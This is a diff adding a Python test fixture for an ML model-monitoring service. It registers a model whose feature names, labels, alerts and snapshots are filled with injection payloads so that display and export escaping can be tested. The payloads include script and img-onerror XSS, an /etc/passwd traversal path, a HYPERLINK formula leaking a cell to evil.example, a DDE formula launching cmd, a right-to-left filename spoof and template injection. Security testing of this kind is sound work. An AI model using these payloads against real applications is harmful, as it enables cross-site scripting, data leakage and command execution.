@@ -1,0 +1,112 @@
+"""Strangers' text as hostile as it comes, planted wherever strangers' text goes: one model that is made of it."""
+
+from typing import Any
+
+import msgspec
+import numpy as np
+import pandas as pd
+import redis
+
+from shared.alerts import cloud_event, fingerprint
+from shared.events import Prediction, encode
+from shared.keys import Keys
+from shared.model_registry import ModelRegistry, PublishedVersion, new_manifest
+from shared.reference import ReferenceProfile
+from shared.schema import Feature, Schema, columns_of
+from shared.snapshot import (
+    Acknowledgement,
+    ActiveAlert,
+    Alert,
+    AlertEvidence,
+    Contribution,
+    FeatureReport,
+    Histogram,
+    RecommendedAction,
+    Silence,
+    Snapshot,
+    Statistic,
+    Window,
+)
+
+MODEL = "hostile"
+SCRIPT = "<script>window.ran = 1</script>"
+IMAGE = "\"><img src=x onerror='window.ran = 2'>"
+PATH = "../../../../etc/passwd"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+TAB_FORMULA = "\t@SUM(1+1)*cmd|' /C calc'!A0"
+REVERSED = "\u202egnp.exe\u2066"
+LINK = "javascript:window.ran = 3"
+TEMPLATE = "{{ 7 * 7 }}{% raw %}"
+LONG = "A" * 10_000
+TEXTS = (SCRIPT, IMAGE, PATH, FORMULA, TAB_FORMULA, REVERSED, LINK, TEMPLATE, LONG)
+CATEGORIES = tuple(text[:1000] for text in TEXTS)
+SCHEMA = Schema(
+    (
+        *(Feature(text, "numeric") for text in TEXTS),
+        Feature("category", "categorical", nullable=True, categories=CATEGORIES),
+    ),
+    prediction="categorical",
+    target=SCRIPT,
+    classes=CATEGORIES,
+)
+ALL = " ".join(TEXTS[:-1]) + LONG
+
+
+def register(registry: ModelRegistry) -> None:
+    """Register the model, and change its stages for hostile reasons."""
+    random = np.random.default_rng(0)
+    frame = pd.DataFrame({name: random.normal(size=1500) for name in TEXTS})
+    frame["category"] = random.choice(np.array(CATEGORIES, dtype=object), 1500)
+    made = random.choice(np.array(CATEGORIES, dtype=object), 1500)
+    reference = ReferenceProfile.build(SCHEMA, columns_of(frame, SCHEMA), made)
+    for number in (1, 2):
+        manifest = new_manifest(
+            MODEL, f"{number}.0.0", "monitor", metrics=dict.fromkeys(TEXTS, 0.5),
+            git_revision=SCRIPT, trained=IMAGE, feature_engineering=PATH,
+        )  # fmt: skip
+        registry.register(PublishedVersion(manifest, SCHEMA, reference))
+        registry.promote(MODEL, manifest.version, actor=ALL, reason=ALL)
+
+
+def write(client: redis.Redis, keys: Keys) -> None:
+    """Write predictions, labels, alerts and snapshots of the model into Redis, as if all the world had conspired."""
+    client.sadd(keys.models, MODEL, SCRIPT)
+    for number, text in enumerate(TEXTS):
+        values: Any = [*(float(number) for _ in TEXTS), text]
+        event = Prediction(text[:128], "2.0.0", 1_700_000_000_000, values, text, 1.0, client_id=True)
+        client.xadd(keys.log(MODEL, 0), {"t": "p", "e": encode(event)})
+        client.xadd(keys.log(MODEL, 0), {"t": "l", "e": msgspec.json.encode({"id": event.id, "label": text, "time": 1})})
+    for number, text in enumerate(TEXTS):
+        client.xadd(keys.alerts(MODEL), {"e": cloud_event(_alert(text, number))})
+        client.xadd(keys.snapshots(MODEL), {"e": cloud_event(_snapshot(f"{MODEL}-{number}", text))})
+        client.xadd(keys.snapshots(MODEL), {"e": cloud_event(_snapshot(text, text))})
+    client.hset(keys.current(MODEL), "2.0.0", msgspec.json.encode(_snapshot(f"{MODEL}-now", ALL)))
+
+
+def name_of(text: str) -> str:
+    """Give the fingerprint of an alert."""
+    return fingerprint(MODEL, "2.0.0", text, "psi")
+
+
+def _alert(text: str, number: int) -> Alert:
+    cells = [Contribution(one, 0.1, 0.2, 0.3) for one in TEXTS]
+    evidence = AlertEvidence(text, 0.3, 0.2, 0.01, 5000, 2000, number, 0, 1, text, cells)
+    return Alert(
+        name_of(text), MODEL, "2.0.0", text, text, "critical", "firing", text, evidence, 1, 2, None, text, text, 1,
+        "acknowledged", advice=ALL, acknowledged=Acknowledgement(text, ALL, 3), silenced=Silence(text, ALL, 4, 5),
+        inhibited_by=text,
+    )  # fmt: skip
+
+
+def _snapshot(name: str, text: str) -> Snapshot:
+    histogram = Histogram(None, list(TEXTS), [1 / len(TEXTS)] * len(TEXTS), [1 / len(TEXTS)] * len(TEXTS))
+    psi = Statistic("psi", 0.5, 0.01, 0.001, 0.1, 0.25, text)
+    features = [FeatureReport(one, "categorical", "critical", one, [psi], [], histogram, [], []) for one in TEXTS]
+    alerts = [
+        ActiveAlert(name_of(one), one, one, "critical", "firing", 1, one, "retrain", one, 5, one) for one in (*TEXTS, text)
+    ]
+    return Snapshot(
+        id=name, model=MODEL, version="2.0.0", trigger="alert", created=1, severity="critical", verdict=text,
+        window=Window(0, 1, 2000, 8, 2000), reference_rows=1500, features=features, prediction=None, alerts=alerts,
+        events_per_day=1.0, actions=[RecommendedAction("retrain", text, [text])],
+    )  # fmt: skip
